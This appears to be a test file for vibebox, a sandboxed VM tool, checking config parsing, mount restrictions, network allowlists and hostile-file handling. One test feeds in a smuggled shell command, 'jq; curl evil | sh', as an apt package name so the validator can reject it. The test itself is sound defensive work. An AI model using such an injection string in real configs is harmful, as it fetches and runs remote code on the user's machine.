import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import TOML from '@iarna/toml';
import { VibeboxError } from '../../src/errors.js';
import {
  checkMounts,
  defaultConfigText,
  expandHome,
  loadConfig,
  parseConfigText,
  readConfig,
  resolveConfig,
  resolveHostPath,
  WORKSPACE,
  writeDefaultConfig,
  type ResolvedMount,
} from '../../src/config/load.js';
import { setNetworkEntries } from '../../src/config/edit.js';
import { ConfigSchema } from '../../src/config/schema.js';
import { DEFAULT_ALLOWLIST } from '../../proxy/policy.js';

const GiB = 1024 ** 3;
const MiB = 1024 ** 2;

/** Assert that fn throws a VibeboxError with this code whose one line matches every pattern. */
function throwsCode(fn: () => unknown, code: string, ...patterns: RegExp[]): VibeboxError {
  let caught: unknown;
  try {
    fn();
  } catch (e) {
    caught = e;
  }
  assert.ok(caught instanceof VibeboxError, `expected a VibeboxError ${code}, got ${String(caught)}`);
  assert.equal(caught.code, code, caught.message);
  assert.equal(caught.exitCode, 2);
  const line = caught.toLine();
  assert.ok(!line.includes('\n'), `one line: ${line}`);
  assert.match(line, /^vibebox: /);
  for (const p of patterns) assert.match(line, p);
  return caught;
}

let tmp: string;
let vbHome: string;
let project: string;
let savedHome: string | undefined;

before(() => {
  tmp = realpathSync(mkdtempSync(join(tmpdir(), 'vb-config-')));
  vbHome = join(tmp, 'vbhome');
  mkdirSync(vbHome);
  savedHome = process.env['VIBEBOX_HOME'];
  process.env['VIBEBOX_HOME'] = vbHome;
  project = join(tmp, 'proj');
  mkdirSync(project);
});
after(() => {
  if (savedHome === undefined) delete process.env['VIBEBOX_HOME'];
  else process.env['VIBEBOX_HOME'] = savedHome;
  rmSync(tmp, { recursive: true, force: true });
});

describe('parseConfigText: defaults', () => {
  it('an empty file gives every default', () => {
    const c = parseConfigText('');
    assert.deepEqual(c, {
      vm: { cpus: 2, memory: 2 * GiB, disk: 20 * GiB, image: 'default' },
      session: { auto_shutdown_ms: 30000 },
      mounts: [],
      network: { mode: 'allowlist' },
      image: { apt: [], npm: [], run: [] },
      container: {},
      ports: [],
    });
    assert.deepEqual(ConfigSchema.parse({}), c);
  });
  it('an empty table gets its defaults; a partial table keeps the rest', () => {
    const c = parseConfigText('[vm]\ncpus = 4\n[session]\n');
    assert.equal(c.vm.cpus, 4);
    assert.equal(c.vm.memory, 2 * GiB);
    assert.equal(c.session.auto_shutdown_ms, 30000);
  });
  it('a mount defaults to read-only', () => {
    const c = parseConfigText('[[mounts]]\nhost = "~/.gitconfig"\nguest = "/home/vibe/.gitconfig"\n');
    assert.deepEqual(c.mounts, [{ host: '~/.gitconfig', guest: '/home/vibe/.gitconfig', mode: 'ro' }]);
  });
  it('the example of README.md, Configuration parses', () => {
    const c = parseConfigText(`[vm]
cpus = 2
memory = "2GiB"
disk = "20GiB"
image = "default"

[session]
auto_shutdown_ms = 30000

[[mounts]]
host = "~/.gitconfig"
guest = "/home/vibe/.gitconfig"
mode = "ro"

[network]
mode = "allowlist"
entries = ["api.anthropic.com", "api.openai.com", ".github.com"]
`);
    assert.equal(c.network.mode, 'allowlist');
    assert.deepEqual(c.network.entries, ['api.anthropic.com', 'api.openai.com', '.github.com']);
    assert.equal(c.mounts.length, 1);
  });
  it('defaultConfigText round-trips through parseConfigText to the defaults', () => {
    const text = defaultConfigText();
    const c = parseConfigText(text);
    const d = parseConfigText('');
    assert.deepEqual(c.vm, d.vm);
    assert.deepEqual(c.session, d.session);
    assert.deepEqual(c.mounts, []);
    assert.equal(c.network.mode, 'allowlist');
    assert.deepEqual(c.network.entries, [...DEFAULT_ALLOWLIST]);
  });
});

describe('parseConfigText: bad input', () => {
  it('an unknown top-level key is E_CONFIG_INVALID naming it', () => {
    throwsCode(() => parseConfigText('bogus = 1\n'), 'E_CONFIG_INVALID', /"bogus"/, /unknown key/, /vibebox\.toml/);
  });
  it('an unknown top-level table is E_CONFIG_INVALID naming it', () => {
    throwsCode(() => parseConfigText('[vms]\ncpus = 2\n'), 'E_CONFIG_INVALID', /"vms"/);
  });
  it('an unknown nested key names the table and the key', () => {
    throwsCode(() => parseConfigText('[vm]\ncpu = 2\n'), 'E_CONFIG_INVALID', /vm: unknown key "cpu"/);
    throwsCode(() => parseConfigText('[session]\nauto_shutdown = 1\n'), 'E_CONFIG_INVALID', /session: unknown key "auto_shutdown"/);
    throwsCode(() => parseConfigText('[network]\nallow = ["a.com"]\n'), 'E_CONFIG_INVALID', /network: unknown key "allow"/);
    throwsCode(
      () => parseConfigText('[[mounts]]\nhost = "/tmp"\nguest = "/mnt/t"\nreadonly = true\n'),
      'E_CONFIG_INVALID',
      /mounts\[0\]: unknown key "readonly"/,
    );
  });
  it('a wrong type names the key path', () => {
    throwsCode(() => parseConfigText('[vm]\ncpus = "two"\n'), 'E_CONFIG_INVALID', /vm\.cpus: /);
    throwsCode(() => parseConfigText('[vm]\ncpus = 2.5\n'), 'E_CONFIG_INVALID', /vm\.cpus: /);
    throwsCode(() => parseConfigText('[vm]\ncpus = 0\n'), 'E_CONFIG_INVALID', /vm\.cpus: /);
    throwsCode(() => parseConfigText('[vm]\nimage = "Bad Name"\n'), 'E_CONFIG_INVALID', /vm\.image: /);
    throwsCode(() => parseConfigText('[session]\nauto_shutdown_ms = -1\n'), 'E_CONFIG_INVALID', /session\.auto_shutdown_ms: /);
    throwsCode(() => parseConfigText('[network]\nmode = "open"\n'), 'E_CONFIG_INVALID', /network\.mode: /);
    throwsCode(() => parseConfigText('[network]\nentries = "a.com"\n'), 'E_CONFIG_INVALID', /network\.entries: /);
    throwsCode(() => parseConfigText('[network]\nentries = ["ok.com", "not a host"]\n'), 'E_CONFIG_INVALID', /network\.entries\[1\]: /);
    throwsCode(() => parseConfigText('vm = 3\n'), 'E_CONFIG_INVALID', /vm: /);
    throwsCode(() => parseConfigText('mounts = {}\n'), 'E_CONFIG_INVALID', /mounts: /);
  });
  it('a mount with a bad field names it by index', () => {
    throwsCode(() => parseConfigText('[[mounts]]\nhost = "/a"\nguest = "/mnt/a"\n[[mounts]]\nhost = "/b"\nguest = "relative"\n'), 'E_CONFIG_INVALID', /mounts\[1\]\.guest: /);
    throwsCode(() => parseConfigText('[[mounts]]\nhost = "/a"\nguest = "/mnt/a"\nmode = "wo"\n'), 'E_CONFIG_INVALID', /mounts\[0\]\.mode: /);
    throwsCode(() => parseConfigText('[[mounts]]\nguest = "/mnt/a"\n'), 'E_CONFIG_INVALID', /mounts\[0\]\.host: /);
  });
  it('unparsable TOML is E_CONFIG_PARSE with the line number', () => {
    throwsCode(() => parseConfigText('[vm]\ncpus = 2\nmemory = = "1GiB"\n'), 'E_CONFIG_PARSE', /vibebox\.toml:3:10: /);
    throwsCode(() => parseConfigText('[vm\n'), 'E_CONFIG_PARSE', /vibebox\.toml:1:4: /);
    throwsCode(() => parseConfigText('\n\n\n\n[network]\nentries = ["a",\n', 'p/vibebox.toml'), 'E_CONFIG_PARSE', /^vibebox: p\/vibebox\.toml:\d+:\d+: /);
    // A duplicate key is a TOML error too.
    throwsCode(() => parseConfigText('[vm]\ncpus = 2\ncpus = 3\n'), 'E_CONFIG_PARSE', /vibebox\.toml:3:\d+: /);
  });
  it('a TOML error is one line `file:LINE:COL: what` in plain words, with a hint', () => {
    const cases: [string, RegExp][] = [
      ['[vm]\ncpus = 2\nmemory = = "1GiB"\n', /^vibebox: vibebox\.toml:3:10: unexpected "=", expected a value/],
      ['[vm]\nmemory = \n', /^vibebox: vibebox\.toml:2:10: unexpected end of line, expected a value/],
      ['a = "x\n', /^vibebox: vibebox\.toml:1:\d+: unterminated string/],
      ['[vm\n', /^vibebox: vibebox\.toml:1:4: unexpected end of line/],
    ];
    for (const [text, re] of cases) {
      const e = throwsCode(() => parseConfigText(text), 'E_CONFIG_PARSE', re, /\(fix the TOML syntax/);
      // Not the parser's own wording of where (row/col/pos) nor its source excerpt.
      assert.doesNotMatch(e.toLine(), /row \d|pos \d|Unexpected|\^/);
    }
  });
  it('a hostile character in a TOML error is shown escaped', () => {
    const e = throwsCode(() => parseConfigText('[vm]\ncpus = \u202e\n'), 'E_CONFIG_PARSE', /vibebox\.toml:2:8: unexpected "\\u202e"/);
    assert.doesNotMatch(e.toLine(), /\u202e/);
  });
  it('the file name in the message is the one given', () => {
    throwsCode(() => parseConfigText('x = 1', 'some/dir/vibebox.toml'), 'E_CONFIG_INVALID', /^vibebox: some\/dir\/vibebox\.toml: /);
  });
});

describe('parseConfigText: what a person reads', () => {
  // The validator's own wording (and its regex sources) is not a message: each issue is one line
  // naming the key, what it takes, and what it got.
  const ZOD_SPEAK = /Invalid input|Invalid option|Invalid string|received (undefined|string|number|boolean|object|array)|Too (small|big)|expected (int|number|string|object|array)\b|must match pattern|\/\^|\$\//;
  const cases: [string, RegExp][] = [
    ['[[mounts]]\nguest = "/mnt/a"\n', /mounts\[0\]\.host: missing \(a string\)/],
    ['[vm]\ncpus = "2"\n', /vm\.cpus: expected a whole number, got "2"/],
    ['[vm]\ncpus = 2.5\n', /vm\.cpus: expected a whole number, got 2\.5/],
    ['[vm]\ncpus = 0\n', /vm\.cpus: must be at least 1, got 0/],
    ['[vm]\ncpus = 65\n', /vm\.cpus: must be at most 64, got 65/],
    ['[container]\ncpus = -1\n', /container\.cpus: must be more than 0, got -1/],
    ['[[ports]]\nguest = 70000\n', /ports\[0\]\.guest: must be at most 65535, got 70000/],
    ['[session]\nauto_shutdown_ms = true\n', /session\.auto_shutdown_ms: expected a whole number of milliseconds or "never"/],
    ['[network]\nmode = "open"\n', /network\.mode: must be "allowlist" or "blocklist", got "open"/],
    ['[network]\nentries = "a.com"\n', /network\.entries: expected a list \[…\], got "a\.com"/],
    ['vm = 3\n', /vm: expected a table \[…\], got 3/],
    ['[vm]\nmemory = "lots"\n', /vm\.memory: expected a size like "2GiB" or "512MiB", got "lots"/],
    ['[vm]\nmemory = true\n', /vm\.memory: expected a string or a number, got true/],
    ['[container]\nmemory = "x"\n', /container\.memory: expected a size like "2GiB" or "512MiB", got "x"/],
    ['[image]\napt = ["Not A Package"]\n', /image\.apt\[0\]: "Not A Package" is not in the form this key takes/],
    ['[image]\nrun = 3\n', /image\.run: expected a list \[…\], got 3/],
    ['[workspace]\nwritable_git_config = "yes"\n', /workspace\.writable_git_config: expected true or false, got "yes"/],
  ];
  for (const [text, re] of cases) {
    it(`${JSON.stringify(text)} → ${re.source}`, () => {
      const e = throwsCode(() => parseConfigText(text), 'E_CONFIG_INVALID', /^vibebox: vibebox\.toml: /, re);
      assert.doesNotMatch(e.toLine(), ZOD_SPEAK);
    });
  }
  it('the hint names the table the key is in', () => {
    throwsCode(() => parseConfigText('[vm]\ncpus = "2"\n'), 'E_CONFIG_INVALID', /\(see the \[vm\] keys in README\.md\)$/);
    throwsCode(() => parseConfigText('[[mounts]]\nguest = "/x"\n'), 'E_CONFIG_INVALID', /\(see the \[\[mounts\]\] keys in README\.md\)$/);
  });
  it('a hostile value or key in the message is shown escaped, and a long one cut', () => {
    const e = throwsCode(() => parseConfigText('[network]\nmode = "\\u001b[2J\\u202eopen"\n'), 'E_CONFIG_INVALID', /network\.mode contains a control character \(\\e\): "\\e\[2J\\u202eopen"/); // refused before the schema sees it
    assert.doesNotMatch(e.toLine(), /[\x1b\u202e]/);
    const k = throwsCode(() => parseConfigText('[vm]\n"a\\u202eb" = 1\n'), 'E_CONFIG_INVALID', /vm\.a\\u202eb: the key contains an invisible or reordering character/);
    assert.doesNotMatch(k.toLine(), /\u202e/);
    const long = throwsCode(() => parseConfigText(`[vm]\nimage = "${'x '.repeat(2500)}"\n`), 'E_CONFIG_INVALID', /vm\.image: /);
    assert.ok(long.toLine().length < 400, long.toLine());
  });
});

describe('parseConfigText: sizes', () => {
  it('accepts GiB, MiB and plain byte counts', () => {
    assert.equal(parseConfigText('[vm]\nmemory = "512MiB"\n').vm.memory, 512 * MiB);
    assert.equal(parseConfigText('[vm]\nmemory = "4GiB"\ndisk = "100GiB"\n').vm.disk, 100 * GiB);
    assert.equal(parseConfigText('[vm]\nmemory = 1073741824\n').vm.memory, GiB);
    assert.equal(parseConfigText('[vm]\ndisk = "1.5GiB"\n').vm.disk, 1.5 * GiB);
  });
  it('rejects a bad size naming the key', () => {
    throwsCode(() => parseConfigText('[vm]\nmemory = "lots"\n'), 'E_CONFIG_INVALID', /vm\.memory: /, /"lots"/);
    throwsCode(() => parseConfigText('[vm]\ndisk = "10XB"\n'), 'E_CONFIG_INVALID', /vm\.disk: /);
    throwsCode(() => parseConfigText('[vm]\nmemory = 0\n'), 'E_CONFIG_INVALID', /vm\.memory: /);
    throwsCode(() => parseConfigText('[vm]\nmemory = -5\n'), 'E_CONFIG_INVALID', /vm\.memory: /);
    throwsCode(() => parseConfigText('[vm]\nmemory = true\n'), 'E_CONFIG_INVALID', /vm\.memory: /);
  });
});

describe('path resolution', () => {
  it('expandHome expands ~ and ~/x only', () => {
    assert.equal(expandHome('~', '/home/u'), '/home/u');
    assert.equal(expandHome('~/.gitconfig', '/home/u'), '/home/u/.gitconfig');
    assert.equal(expandHome('~other/x', '/home/u'), '~other/x');
    assert.equal(expandHome('/abs/~/x', '/home/u'), '/abs/~/x');
    assert.equal(expandHome('a/~', '/home/u'), 'a/~');
  });
  it('resolveHostPath: ~ expands, relative is relative to the project, absolute is normalised', () => {
    assert.equal(resolveHostPath('~/.ssh', '/p/proj', '/home/u'), '/home/u/.ssh');
    assert.equal(resolveHostPath('~', '/p/proj', '/home/u'), '/home/u');
    assert.equal(resolveHostPath('data', '/p/proj', '/home/u'), '/p/proj/data');
    assert.equal(resolveHostPath('./data/', '/p/proj', '/home/u'), '/p/proj/data');
    assert.equal(resolveHostPath('../shared', '/p/proj', '/home/u'), '/p/shared');
    assert.equal(resolveHostPath('.', '/p/proj', '/home/u'), '/p/proj');
    assert.equal(resolveHostPath('/etc/./hosts', '/p/proj', '/home/u'), '/etc/hosts');
  });
});

describe('resolveConfig', () => {
  it('puts the project first at /workspace rw, then the mounts; relative hosts resolve to the project', () => {
    mkdirSync(join(project, 'data'), { recursive: true });
    const cfg = parseConfigText('[[mounts]]\nhost = "data"\nguest = "/mnt/data"\nmode = "rw"\n');
    const rc = resolveConfig(cfg, project, { vbHome });
    assert.deepEqual(rc.mounts, [
      { host: project, guest: WORKSPACE, mode: 'rw', declared: '.' },
      { host: join(project, 'data'), guest: '/mnt/data', mode: 'rw', declared: 'data' },
    ]);
    assert.equal(WORKSPACE, '/workspace');
  });
  it('~ in a mount expands to the home directory', () => {
    const cfg = parseConfigText('[[mounts]]\nhost = "~/x/.gitconfig"\nguest = "/home/vibe/.gitconfig"\n');
    const rc = resolveConfig(cfg, project, { vbHome, checkPaths: false });
    assert.match(rc.mounts[1]!.host, /\/x\/\.gitconfig$/);
    assert.ok(!rc.mounts[1]!.host.includes('~'));
  });
  it('the network entries default to the allowlist; a blocklist without entries is empty', () => {
    assert.deepEqual(resolveConfig(parseConfigText(''), project, { vbHome }).network, { mode: 'allowlist', entries: [...DEFAULT_ALLOWLIST] });
    assert.deepEqual(resolveConfig(parseConfigText('[network]\nmode = "blocklist"\n'), project, { vbHome }).network, { mode: 'blocklist', entries: [] });
    assert.deepEqual(resolveConfig(parseConfigText('[network]\nentries = []\n'), project, { vbHome }).network, { mode: 'allowlist', entries: [] });
  });
  it('a missing mount host path is E_MOUNT_MISSING naming it', () => {
    const cfg = parseConfigText('[[mounts]]\nhost = "./nope"\nguest = "/mnt/nope"\n');
    throwsCode(() => resolveConfig(cfg, project, { vbHome }), 'E_MOUNT_MISSING', /\.\/nope/, /does not exist/);
    // Without path checks (pure mode) it resolves.
    assert.equal(resolveConfig(cfg, project, { vbHome, checkPaths: false }).mounts[1]!.host, join(project, 'nope'));
  });
  it('a mount of VIBEBOX_HOME, inside it, or containing it is E_MOUNT_FORBIDDEN', () => {
    mkdirSync(join(vbHome, 'images'), { recursive: true });
    for (const host of [vbHome, join(vbHome, 'images'), tmp]) {
      const cfg = ConfigSchema.parse({ mounts: [{ host, guest: '/mnt/x' }] });
      throwsCode(() => resolveConfig(cfg, project, { vbHome }), 'E_MOUNT_FORBIDDEN', /expose/);
    }
  });
  it('a symlinked VIBEBOX_HOME is still recognised', () => {
    const link = join(tmp, 'vbhome-link');
    symlinkSync(vbHome, link);
    const cfg = ConfigSchema.parse({ mounts: [{ host: vbHome, guest: '/mnt/x' }] });
    throwsCode(() => resolveConfig(cfg, project, { vbHome: link }), 'E_MOUNT_FORBIDDEN', /expose/);
  });
  it('a mount of the project .vibebox/, inside it, or of a parent of the project is E_MOUNT_FORBIDDEN', () => {
    mkdirSync(join(project, '.vibebox', 'sub'), { recursive: true });
    const parent = join(tmp, 'parent');
    const nested = join(parent, 'app');
    mkdirSync(join(nested, '.vibebox'), { recursive: true });
    for (const host of ['.vibebox', './.vibebox/sub']) {
      const cfg = parseConfigText(`[[mounts]]\nhost = "${host}"\nguest = "/mnt/x"\n`);
      throwsCode(() => resolveConfig(cfg, project, { vbHome }), 'E_MOUNT_FORBIDDEN', /session state/);
    }
    // `..` contains <project>/.vibebox: only the project mount hides it.
    const up = parseConfigText('[[mounts]]\nhost = ".."\nguest = "/mnt/x"\n');
    throwsCode(() => resolveConfig(up, nested, { vbHome }), 'E_MOUNT_FORBIDDEN', /session state/);
  });
  it('shadowing a system guest path is E_MOUNT_FORBIDDEN', () => {
    mkdirSync(join(project, 'd'), { recursive: true });
    for (const guest of ['/etc', '/etc/', '/', '/usr', '/proc/x', '/opt/vibebox/bin', '/home/vibe', '/mnt/../etc', '//etc', '/usr/./']) {
      const cfg = ConfigSchema.parse({ mounts: [{ host: 'd', guest }] });
      throwsCode(() => resolveConfig(cfg, project, { vbHome }), 'E_MOUNT_FORBIDDEN', /system path/);
    }
    for (const guest of ['/mnt/d', '/home/vibe/d', '/workspace/d', '/srv/d']) {
      const cfg = ConfigSchema.parse({ mounts: [{ host: 'd', guest }] });
      assert.equal(resolveConfig(cfg, project, { vbHome }).mounts[1]!.guest, guest);
    }
  });
  it('two mounts at one guest path (or over /workspace) are E_MOUNT_FORBIDDEN', () => {
    mkdirSync(join(project, 'd'), { recursive: true });
    throwsCode(() => resolveConfig(ConfigSchema.parse({ mounts: [{ host: 'd', guest: '/workspace' }] }), project, { vbHome }), 'E_MOUNT_FORBIDDEN', /two mounts/);
    throwsCode(
      () => resolveConfig(ConfigSchema.parse({ mounts: [{ host: 'd', guest: '/mnt/a' }, { host: 'd', guest: '/mnt/a/' }] }), project, { vbHome }),
      'E_MOUNT_FORBIDDEN',
      /two mounts/,
    );
  });
});

describe('checkMounts (pure)', () => {
  const m = (host: string, guest: string, declared = host): ResolvedMount => ({ host, guest, mode: 'ro', declared });
  const proj = '/p/proj';
  const home = '/h/.vibebox';
  it('accepts the project and ordinary mounts', () => {
    checkMounts([m(proj, '/workspace', '.'), m('/h/.gitconfig', '/home/vibe/.gitconfig'), m('/p/other', '/mnt/other')], proj, home);
  });
  it('refuses exposing the vibebox home, the state folder, or system guest paths', () => {
    throwsCode(() => checkMounts([m(proj, '/workspace', '.'), m('/h', '/mnt/h')], proj, home), 'E_MOUNT_FORBIDDEN');
    throwsCode(() => checkMounts([m(proj, '/workspace', '.'), m('/h/.vibebox/run', '/mnt/h')], proj, home), 'E_MOUNT_FORBIDDEN');
    throwsCode(() => checkMounts([m(proj, '/workspace', '.'), m('/p/proj/.vibebox', '/mnt/s')], proj, home), 'E_MOUNT_FORBIDDEN');
    throwsCode(() => checkMounts([m(proj, '/workspace', '.'), m('/p', '/mnt/s')], proj, home), 'E_MOUNT_FORBIDDEN');
    throwsCode(() => checkMounts([m(proj, '/workspace', '.'), m('/p/x', '/etc')], proj, home), 'E_MOUNT_FORBIDDEN');
    // The project itself inside the vibebox home is refused too.
    throwsCode(() => checkMounts([m('/h/.vibebox/p', '/workspace', '.')], '/h/.vibebox/p', home), 'E_MOUNT_FORBIDDEN');
  });
});

describe('readConfig / loadConfig', () => {
  it('a missing vibebox.toml means the defaults', () => {
    const p = mkdtempSync(join(tmp, 'p-'));
    assert.deepEqual(readConfig(p), parseConfigText(''));
  });
  it('VIBEBOX_AUTO_SHUTDOWN_MS overrides the file', () => {
    const p = mkdtempSync(join(tmp, 'p-'));
    writeFileSync(join(p, 'vibebox.toml'), '[session]\nauto_shutdown_ms = 5\n');
    assert.equal(loadConfig(p, {}).session.auto_shutdown_ms, 5);
    assert.equal(loadConfig(p, { VIBEBOX_AUTO_SHUTDOWN_MS: '1234' }).session.auto_shutdown_ms, 1234);
    assert.equal(loadConfig(p, { VIBEBOX_AUTO_SHUTDOWN_MS: 'soon' }).session.auto_shutdown_ms, 5);
  });
  // A guest can mkfifo /workspace/vibebox.toml or link it to /dev/zero: every host command reads
  // the file, so each must refuse it at once, in one line, never block or read without end.
  it('a FIFO, a link to /dev/zero, a link to a file, a directory or a huge vibebox.toml: one line, at once', () => {
    const cases: [string, (f: string) => void, RegExp][] = [
      ['fifo', (f) => execFileSync('mkfifo', [f]), /not a regular file/],
      ['zero', (f) => symlinkSync('/dev/zero', f), /symbolic link/],
      ['link', (f) => (writeFileSync(`${f}.real`, '[vm]\ncpus = 2\n'), symlinkSync(`${f}.real`, f)), /symbolic link/],
      ['dir', (f) => mkdirSync(f), /is a directory/],
      ['huge', (f) => writeFileSync(f, `# ${'x'.repeat(2 * 1024 * 1024)}\n`), /bytes/],
    ];
    for (const [name, make, re] of cases) {
      const p = mkdtempSync(join(tmp, `hostile-${name}-`));
      make(join(p, 'vibebox.toml'));
      const t0 = Date.now();
      throwsCode(() => readConfig(p), 'E_CONFIG_INVALID', /vibebox\.toml/, re);
      throwsCode(() => loadConfig(p, {}), 'E_CONFIG_INVALID', re);
      assert.ok(Date.now() - t0 < 2000, `${name} took ${Date.now() - t0} ms`);
    }
  });
  it('writeDefaultConfig writes nothing over, or through, a dangling link the guest left', () => {
    const p = mkdtempSync(join(tmp, 'p-'));
    symlinkSync(join(tmp, 'dangling-target'), join(p, 'vibebox.toml'));
    assert.equal(writeDefaultConfig(p), false);
    assert.ok(!existsSync(join(tmp, 'dangling-target')));
    const q = mkdtempSync(join(tmp, 'p-'));
    assert.equal(writeDefaultConfig(q), true);
    assert.equal(writeDefaultConfig(q), false);
  });
  it('a broken file names the file', () => {
    const p = mkdtempSync(join(tmp, 'p-'));
    writeFileSync(join(p, 'vibebox.toml'), '[vm]\nfoo = 1\n');
    throwsCode(() => readConfig(p), 'E_CONFIG_INVALID', /vibebox\.toml: vm: unknown key "foo"/);
  });
});

describe('setNetworkEntries', () => {
  const parse = (t: string) => TOML.parse(t) as { network?: { entries?: string[]; mode?: string }; vm?: { cpus?: number } };
  it('replaces the array and keeps comments and other keys', () => {
    const text = `# top comment
[vm]
cpus = 4 # four

[network]
# which hosts
mode = "allowlist"   # mode comment
entries = ["a.com", "b.com"] # the list
# after the list
other_comment = 1

[session]
auto_shutdown_ms = 10
`;
    // other_comment is not a schema key; only TOML is checked here: edits must not touch it.
    const out = setNetworkEntries(text, ['a.com', 'c.com']);
    const t = parse(out);
    assert.deepEqual(t.network?.entries, ['a.com', 'c.com']);
    assert.equal(t.network?.mode, 'allowlist');
    assert.equal(t.vm?.cpus, 4);
    for (const keep of ['# top comment', 'cpus = 4 # four', '# which hosts', '# mode comment', '# the list', '# after the list', 'other_comment = 1', '[session]', 'auto_shutdown_ms = 10']) {
      assert.ok(out.includes(keep), `kept ${JSON.stringify(keep)}:\n${out}`);
    }
  });
  it('edits a multi-line array (the default file) and keeps it valid for the schema', () => {
    const out = setNetworkEntries(defaultConfigText(), [...DEFAULT_ALLOWLIST, 'example.org']);
    const c = parseConfigText(out);
    assert.deepEqual(c.network.entries, [...DEFAULT_ALLOWLIST, 'example.org']);
    assert.ok(out.includes('# The project itself is always mounted'));
    assert.ok(out.includes('auto_shutdown_ms = 30000   # stop the VM'));
    assert.equal(out.replace(/entries = \[[\s\S]*?\]/, ''), defaultConfigText().replace(/entries = \[[\s\S]*?\]/, ''));
  });
  it('empties the list', () => {
    assert.deepEqual(parseConfigText(setNetworkEntries(defaultConfigText(), [])).network.entries, []);
  });
  it('adds entries to a [network] table without them, and a table to a file without one', () => {
    const a = setNetworkEntries('[network]\nmode = "blocklist"\n\n[vm]\ncpus = 1\n', ['x.com']);
    assert.deepEqual(parseConfigText(a).network, { mode: 'blocklist', entries: ['x.com'] });
    assert.equal(parseConfigText(a).vm.cpus, 1);
    const b = setNetworkEntries('# just a comment\n[vm]\ncpus = 3', ['y.com']);
    assert.deepEqual(parseConfigText(b).network.entries, ['y.com']);
    assert.ok(b.startsWith('# just a comment\n[vm]\ncpus = 3\n'));
    assert.deepEqual(parseConfigText(setNetworkEntries('', ['z.com'])).network.entries, ['z.com']);
  });
  it('does not touch an entries key of another table', () => {
    const text = '[network]\nmode = "allowlist"\n\n[other]\nentries = ["keep"]\n';
    const out = setNetworkEntries(text, ['n.com']);
    const t = TOML.parse(out) as { network: { entries: string[] }; other: { entries: string[] } };
    assert.deepEqual(t.network.entries, ['n.com']);
    assert.deepEqual(t.other.entries, ['keep']);
  });
});

describe('[image] and [container]', () => {
  it('take package lists, run lines and caps', () => {
    const c = parseConfigText('[image]\napt = ["postgresql-client"]\nnpm = ["typescript@5"]\nrun = ["echo hi"]\n[container]\ncpus = 1.5\nmemory = "1GiB"\n');
    assert.deepEqual(c.image, { apt: ['postgresql-client'], npm: ['typescript@5'], run: ['echo hi'] });
    assert.deepEqual(c.container, { cpus: 1.5, memory: GiB });
  });
  it('refuse what is not a package name, and unknown keys (no FROM, no ADD)', () => {
    assert.throws(() => parseConfigText('[image]\napt = ["jq; curl evil | sh"]\n'), /image\.apt/);
    assert.throws(() => parseConfigText('[image]\nfrom = "ubuntu"\n'), /from/);
    assert.throws(() => parseConfigText('[container]\nprivileged = true\n'), /privileged/);
  });
});
